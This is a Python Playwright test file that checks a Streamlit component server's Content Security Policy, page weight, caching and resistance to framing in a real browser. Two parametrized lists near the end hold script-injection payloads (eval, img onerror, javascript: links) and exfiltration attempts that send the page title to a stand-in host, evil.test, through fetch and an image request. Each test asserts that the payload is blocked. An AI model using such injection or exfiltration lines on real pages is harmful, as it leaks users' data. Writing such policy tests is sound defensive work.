"""A real browser: the policy holds, and nothing that Streamlit needs is cut off."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Request, expect

from tests.components.server.conftest import Server, running

pytestmark = pytest.mark.browser

# A page that is slow on a busy machine is none of these tests' business.
PATIENCE = 60_000  # ms

# The document says of each thing that the policy stopped; asked before any script of the page runs.
WATCH = """
window.stopped = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.stopped.push(`${event.effectiveDirective} ${event.blockedURI}`);
});
"""


class Visit:
    """A page in a phone of its own, and what it fetched."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.requests: list[Request] = []
        page.on("requestfinished", self._finished)
        page.add_init_script(WATCH)

    def _finished(self, request: Request) -> None:
        self.requests.append(request)

    def stopped(self) -> list[str]:
        """Return what the policy kept from happening."""
        found: list[str] = self.page.evaluate("() => window.stopped")
        return found

    def bytes(self) -> int:
        """Return how much went over the wire."""
        sizes = [request.sizes() for request in self.requests]
        return sum(size["responseBodySize"] + size["responseHeadersSize"] for size in sizes)

    def addresses(self) -> list[str]:
        """Return what was fetched, blob: and data: left out."""
        return [request.url for request in self.requests if request.url.startswith("http")]


@pytest.fixture
def visit(browser: Browser) -> Iterator[Visit]:
    """Open a page that has not gone anywhere yet."""
    context = browser.new_context(viewport={"width": 390, "height": 800}, locale="en-GB")
    yield Visit(context.new_page())
    context.close()


@pytest.fixture
def room(visit: Visit, server: Server) -> Visit:
    """Bring a phone into the room."""
    visit.page.goto(f"{server.url}/room")
    expect(visit.page.locator(".drawn")).to_have_text("drawn", timeout=PATIENCE)
    return visit


def test_component_runs_and_nothing_is_stopped(room: Visit) -> None:
    assert room.stopped() == []
    expect(room.page.locator(".drawn")).to_have_css("color", "rgb(20, 89, 86)")


def test_packed_modules_do_as_the_modules_do(visit: Visit, server: Server) -> None:
    visit.page.goto(f"{server.url}/")

    expect(visit.page.locator(".drawn")).to_have_text("drawn", timeout=PATIENCE)
    fetched = [urlsplit(address).path.split("/")[3:] for address in visit.addresses()]
    assert [path for path in fetched if path and path[-1].endswith(".js") and len(path) > 1] == []
    assert visit.stopped() == []


def test_trainers_page_draws_everything_and_nothing_is_stopped(
    visit: Visit, server: Server
) -> None:
    visit.page.goto(f"{server.url}/charts")

    expect(visit.page.get_by_role("button", name="Last")).to_be_visible(timeout=PATIENCE)
    expect(visit.page.locator(".js-plotly-plot .bars path").first).to_be_visible(timeout=PATIENCE)
    expect(visit.page.locator("[data-testid=stGraphVizChart] svg .edge").first).to_be_visible(
        timeout=PATIENCE
    )
    expect(
        visit.page.locator("[data-testid=stImage] img, [data-testid=stImage] svg").first
    ).to_be_visible(timeout=PATIENCE)
    assert visit.stopped() == []


@pytest.mark.parametrize("path", ["/room", "/charts", "/room?staticAppId=another"])
def test_page_fetches_nothing_from_elsewhere(visit: Visit, server: Server, path: str) -> None:
    visit.page.goto(server.url + path)
    visit.page.wait_for_load_state("networkidle")

    assert {urlsplit(address).netloc for address in visit.addresses()} == {server.host}


def test_first_load_of_a_phone_is_small(room: Visit) -> None:
    room.page.wait_for_load_state("networkidle")

    fonts = [address for address in room.addresses() if address.endswith((".woff2", ".ttf"))]
    assert fonts == []
    assert room.bytes() <= 600_000


def test_page_asks_for_each_file_once(room: Visit) -> None:
    room.page.wait_for_load_state("networkidle")

    assert sorted(set(room.addresses())) == sorted(room.addresses())


def test_every_address_that_a_page_asks_for_exists(room: Visit) -> None:
    answers = [request.response() for request in room.requests]

    assert [answer.url for answer in answers if answer and answer.status >= 400] == []


def test_second_visit_fetches_next_to_nothing(room: Visit) -> None:
    room.requests.clear()
    room.page.reload()
    expect(room.page.locator(".drawn")).to_have_text("drawn", timeout=PATIENCE)

    assert room.bytes() <= 10_000


def test_page_says_its_name_and_language(room: Visit) -> None:
    assert room.page.title() == "Sample"
    assert room.page.locator("html").get_attribute("lang") == "en"


SCRIPT = "const s = document.createElement('script'); document.body.append(s);"
LINK = "const a = document.createElement('a'); document.body.append(a);"
PICTURE = "const i = new Image(); i.onload = () => done('out'); i.onerror = () => done('stopped');"


@pytest.mark.parametrize(
    "attack",
    [
        f"{SCRIPT} s.textContent = 'window.hit = 1'",
        f"{SCRIPT} s.src = 'data:,window.hit = 1'",
        f"{LINK} a.href = 'javascript:window.hit = 1'; a.click()",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
        "eval('window.hit = 1')",
        "new Function('window.hit = 1')()",
        "setTimeout('window.hit = 1', 0)",
    ],
)
def test_script_that_gets_into_a_page_does_not_run(room: Visit, attack: str) -> None:
    # Later, because what the test itself runs is under no policy.
    room.page.evaluate(f"() => {{ setTimeout(() => {{ {attack} }}, 0) }}")
    room.page.wait_for_timeout(500)

    assert room.page.evaluate("() => window.hit ?? null") is None
    assert len(room.stopped()) == 1


@pytest.mark.parametrize(
    "attempt",
    [
        "() => fetch('https://evil.test/?' + document.title).then(() => 'out', () => 'stopped')",
        f"() => new Promise((done) => {{ {PICTURE} i.src = 'https://evil.test/x.png' }})",
    ],
)
def test_nothing_of_a_page_can_be_sent_elsewhere(room: Visit, attempt: str) -> None:
    assert room.page.evaluate(attempt) == "stopped"
    assert len(room.stopped()) == 1


def test_page_cannot_be_framed(visit: Visit, server: Server) -> None:
    visit.page.set_content(f"<iframe src='{server.url}/room'></iframe>")
    visit.page.wait_for_timeout(1000)

    assert visit.page.frames[1].locator("#root").count() == 0


@pytest.mark.slow
def test_server_that_goes_away_shows_a_phone_no_dialog_of_streamlits(
    browser: Browser, tmp_path: Path
) -> None:
    home, phone = browser.new_page(), browser.new_page()
    with running(tmp_path) as server:
        home.goto(f"{server.url}/")
        expect(home.get_by_test_id("stMarkdown")).to_be_visible(timeout=PATIENCE)
        phone.goto(f"{server.url}/room")
        expect(phone.locator(".drawn")).to_have_text("drawn", timeout=PATIENCE)

    # Both have been trying for as long by now.
    expect(home.get_by_role("dialog")).to_contain_text("Connection error", timeout=PATIENCE)
    phone.wait_for_timeout(2000)

    expect(phone.get_by_role("dialog")).to_have_count(0)
    home.close()
    phone.close()
